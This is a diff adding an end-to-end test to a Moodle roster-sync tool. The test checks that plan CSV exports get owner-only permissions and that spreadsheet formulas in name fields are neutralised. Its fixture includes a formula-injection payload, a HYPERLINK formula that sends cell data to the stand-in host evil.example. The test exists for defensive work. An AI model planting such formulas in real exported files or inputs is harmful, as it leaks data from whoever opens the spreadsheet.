@@ -19,6 +19,7 @@ from typing import Any
 
 from moodle_bridge.cli.render import SHOWN
 from moodle_bridge.reports.changes import CHANGE_COLUMNS
+from moodle_bridge.reports.exports import FORMULA_PREFIXES
 from tests.e2e.conftest import Bridge, Run, nip, people, person, write_assessments, write_tables
 
 AT_ONCE = "[sync]\nabsent_grace_days = 0\nsuspend_share = 1.0\n"
@@ -157,6 +158,47 @@ def test_runs_show_out_writes_the_changes_with_nips_owner_only(bridge: Bridge) -
     assert suspend["name"] == "Ahmad Pegawai000"
     assert suspend["unit"] == "PENDIS"
     assert suspend["reason"].startswith("absent from the roster")
+
+
+def test_plan_out_writes_each_change_of_the_plan_owner_only_and_inert(bridge: Bridge) -> None:
+    bridge.configure(AT_ONCE)
+    ran(bridge.sync(bridge.roster(staff(range(4)))))
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Klik")'
+    roster = bridge.roster(
+        [
+            person(0, unit=UNIT, satker="Biro Baru"),
+            person(1, unit=UNIT, status="PENSIUN"),
+            # person 2 is gone (suspended at once here); person 3 is unchanged
+            person(3, unit=UNIT),
+            person(5, unit=UNIT, nama=formula),
+        ]
+    )
+    out = bridge.tmp_path / "plans" / "plan.csv"
+
+    planned = bridge.invoke(
+        "plan", "--plugin", "generic", "--roster", str(roster), "--out", str(out)
+    )
+
+    assert planned.exit_code == 0, planned.output
+    assert planned.writes == []
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
+    with out.open(newline="", encoding="utf-8-sig") as source:
+        header, *lines = list(csv.reader(source))
+    assert tuple(header) == CHANGE_COLUMNS
+    absent = lines[3][5]
+    assert absent.startswith(f"absent from the roster of {UNIT} since "), absent
+    # One line per person-level change, with the NIP whole (the file is the operator's).
+    assert lines == [
+        ["create", nip(5), "'" + formula, UNIT, "", "new in the roster", "", roster.name, "5"],
+        ["update", nip(0), "Ahmad Pegawai000", UNIT, "", "changed: satker",
+         "satker: Kanwil Provinsi 0 \u2192 Biro Baru", roster.name, "2"],
+        ["suspend", nip(1), "Ahmad Pegawai001", UNIT, "", "status PENSIUN", "", roster.name, "3"],
+        ["suspend", nip(2), "Ahmad Pegawai002", UNIT, "", absent, "", "", ""],
+    ]  # fmt: skip
+    # The name is text a spreadsheet shows, never a formula it runs.
+    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_PREFIXES)]
+    assert bridge.users_by_idnumber(nip(5)) == []
 
 
 def test_runs_show_of_an_unknown_run_exits_2(bridge: Bridge) -> None:
